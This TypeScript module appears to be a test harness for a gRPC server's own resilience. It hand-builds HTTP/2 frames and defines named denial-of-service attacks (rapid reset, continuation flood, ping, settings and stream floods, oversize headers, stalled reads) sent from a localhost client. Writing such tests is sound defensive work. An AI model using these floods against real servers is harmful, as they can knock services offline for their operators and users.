import { connect, type Socket } from 'node:net';

/** HTTP/2 frames as bytes (RFC 9113, section 4.1), to send what no well-made client sends. */
export const frameType = {
  data: 0,
  headers: 1,
  priority: 2,
  rstStream: 3,
  settings: 4,
  ping: 6,
  windowUpdate: 8,
  continuation: 9,
  unknown: 0xf7,
} as const;

const endStream = 1;
const endHeaders = 4;

export const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

export function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A header as HPACK writes it without tables (RFC 7541, section 6.2.2). Lengths stay below 127. */
const literal = (name: string, value: string): Buffer =>
  Buffer.concat([Buffer.of(0, name.length), Buffer.from(name), Buffer.of(value.length), Buffer.from(value)]);

export const requestHeaders = Buffer.concat([
  literal(':method', 'POST'),
  literal(':scheme', 'http'),
  literal(':path', '/gatehouse.v1.CandidateService/Retrieve'),
  literal(':authority', 'x'),
  literal('content-type', 'application/grpc'),
  literal('te', 'trailers'),
]);

export const headers = (stream: number, { whole = false } = {}): Buffer =>
  frame(frameType.headers, endHeaders | (whole ? endStream : 0), stream, requestHeaders);

/** An empty protobuf message, as gRPC sends it. */
export const emptyMessage = (stream: number): Buffer => frame(frameType.data, endStream, stream, Buffer.alloc(5));

const word = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};

export const settings = (pairs: readonly (readonly [id: number, value: number])[] = []): Buffer =>
  frame(
    frameType.settings,
    0,
    0,
    Buffer.concat(pairs.map(([id, value]) => Buffer.concat([Buffer.of(0, id), word(value)]))),
  );

const hello = Buffer.concat([preface, settings()]);
const streamIds = (count: number, from = 0): number[] => Array.from({ length: count }, (_, i) => 2 * (from + i) + 1);
const many = (bytes: Buffer, count = 500): Buffer => Buffer.concat(Array.from({ length: count }, () => bytes));

/** What a hostile client sends: at first, and then again and again as fast as the server takes it. */
export interface Attack {
  readonly first: Buffer;
  readonly again?: (round: number) => Buffer;
}

const resetsPerRound = 50;
/** Streams of one connection end at 2^31, so floods of streams end too. */
const streamsOf = (round: number): number[] => streamIds(resetsPerRound, round * resetsPerRound);

/** Attacks by name. */
export const attacks = {
  silent: { first: Buffer.alloc(0) },
  'half a preface': { first: preface.subarray(0, 10) },
  'no request': { first: hello },
  'half a request': { first: Buffer.concat([hello, headers(1), frame(frameType.data, 0, 1, Buffer.alloc(3))]) },
  // SETTINGS_INITIAL_WINDOW_SIZE (4) of 0: answers may not be sent.
  'answers not taken': { first: Buffer.concat([preface, settings([[4, 0]]), headers(1), emptyMessage(1)]) },
  'stream flood': {
    first: Buffer.concat([hello, ...streamIds(2000).map((id) => headers(id))]),
    again: (round) => Buffer.concat(streamIds(500, 2000 + 500 * round).map((id) => headers(id))),
  },
  'rapid reset': {
    first: hello,
    again: (round) =>
      Buffer.concat(streamsOf(round).flatMap((id) => [headers(id), frame(frameType.rstStream, 0, id, word(8))])),
  },
  'ping flood': { first: hello, again: () => many(frame(frameType.ping, 0, 0, Buffer.alloc(8))) },
  'settings flood': { first: hello, again: () => many(settings([[4, 65_535]])) },
  'window flood': { first: hello, again: () => many(frame(frameType.windowUpdate, 0, 0, word(1)), 2000) },
  'priority flood': {
    first: hello,
    again: () => many(frame(frameType.priority, 0, 3, Buffer.concat([word(1), Buffer.of(1)])), 2000),
  },
  'empty data flood': {
    first: Buffer.concat([hello, headers(1)]),
    again: () => many(frame(frameType.data, 0, 1), 2000),
  },
  'unknown frames': { first: hello, again: () => many(frame(frameType.unknown, 0, 0, Buffer.alloc(4)), 2000) },
  'continuation flood': {
    first: Buffer.concat([hello, frame(frameType.headers, 0, 1, requestHeaders)]),
    again: () => many(frame(frameType.continuation, 0, 1, literal('a', 'b'))),
  },
  // 12 headers of 4 KiB: three times the limit.
  'oversize headers': {
    first: hello,
    again: (round) => oversize(2 * round + 1),
  },
  'one call': { first: Buffer.concat([hello, headers(1), emptyMessage(1)]) },
} satisfies Readonly<Record<string, Attack>>;

/** Name of an attack. */
export type AttackName = keyof typeof attacks;

function oversize(stream: number): Buffer {
  const value = Buffer.alloc(4096, 'a');
  // HPACK integer of 4096 with a prefix of 7 bits: 127, then 3969 in groups of 7 bits.
  const big = Buffer.concat([Buffer.of(0, 1), Buffer.from('a'), Buffer.of(0x7f, 0x81, 0x1f), value]);
  return Buffer.concat([
    frame(frameType.headers, endStream, stream, requestHeaders),
    ...[0, 1, 2].map(() => frame(frameType.continuation, 0, stream, many(big, 3))),
    frame(frameType.continuation, endHeaders, stream, many(big, 3)),
  ]);
}

/** A client that attacks until it is closed. */
export interface HostileClient {
  readonly socket: Socket;
  /** Resolves when the server has closed the connection. */
  readonly closed: Promise<unknown>;
  /** Bytes that the server's side took. */
  readonly taken: () => number;
  readonly stop: () => void;
}

/** Connects from an address of this machine, and attacks. */
export function attack(port: number, chosen: Attack, localAddress = '127.0.0.1', pauseMs = 0): HostileClient {
  return attackOver(connect({ port, host: '127.0.0.1', localAddress }), chosen, { pauseMs });
}

/** How {@link attackOver} goes. */
export interface AttackOptions {
  /** Event of the socket that says that it is connected. @default connect */
  readonly ready?: string;
  /** Between two rounds. @default none */
  readonly pauseMs?: number;
}

/** Attacks over a connection as soon as it is there. It reads nothing but to see the end. */
export function attackOver(
  socket: Socket,
  { first, again }: Attack,
  { ready = 'connect', pauseMs = 0 }: AttackOptions = {},
): HostileClient {
  const closed = new Promise((resolve) => socket.once('close', resolve));
  socket.on('error', () => undefined);
  socket.resume();
  let round = 0;
  const send = (): void => {
    while (again && !socket.destroyed && socket.writable) {
      const takesMore = socket.write(again(round++));
      if (pauseMs > 0) setTimeout(send, pauseMs);
      if (!takesMore || pauseMs > 0) return;
    }
  };
  socket.once(ready, () => {
    if (first.length > 0) socket.write(first);
    send();
  });
  if (pauseMs === 0) socket.on('drain', () => setImmediate(send));
  return { socket, closed, taken: () => socket.bytesWritten - socket.writableLength, stop: () => socket.destroy() };
}
